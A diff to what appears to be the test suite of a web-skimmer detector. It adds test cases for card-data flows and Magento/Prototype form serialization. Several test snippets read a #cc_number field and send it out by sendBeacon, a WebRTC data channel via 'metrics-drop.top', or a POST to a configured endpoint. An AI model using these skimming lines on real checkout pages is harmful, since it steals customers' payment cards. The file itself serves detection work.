@@ -186,6 +186,13 @@ NO_FLOWS = {
         " return s % 10 === 0; }\n"
         "var n = document.querySelector('#cc_number').value.replace(/\\D/g, '');\n"
         f"navigator.sendBeacon('{DROP}', JSON.stringify({{b: brandOf(n), ok: luhn(n)}}));"),
+    "WebRTC with STUN servers only": (  # the peer is named by the SDP, not by a server
+        "var pc = new RTCPeerConnection({iceServers: [{urls: 'stun:metrics-drop.top:3478'}]});\n"
+        "var ch = pc.createDataChannel('x');\n"
+        "ch.send(document.querySelector('#cc_number').value);"),
+    "an event name that looks like a host": (  # the destination stays unresolved
+        "var name = 'checkout.test'; var n = document.querySelector('#cc_number').value;\n"
+        "fetch(window.cfg.endpoint + '?event=' + name, {method: 'POST', body: n});"),
     "negated": "var n = document.querySelector('#cc_number').value;\n"
                f"navigator.sendBeacon('{DROP}', JSON.stringify({{filled: !!n, t: typeof n}}));",
     # Two libraries of one vendor bundle, each in its own wrapper: the card library's own
@@ -241,6 +248,9 @@ def test_listener_events_from_a_list(analyze) -> None:  # type: ignore[no-untype
 @pytest.mark.parametrize("call, reads_form", [
     ("jQuery('form#checkout').serialize()", True),
     ("$(this.form).serializeArray()", True),
+    ("$('co-payment-form').serialize(true)", True),  # Prototype, Magento 1
+    ("Form.serialize($('co-payment-form'))", True),
+    ("Form.serializeElements($('co-payment-form').getElements(), true)", True),
     ("recorder.serialize(document.documentElement, 0)", False),  # a DOM snapshot of its own
     ("serialize(document.documentElement, 0)", False),
 ])
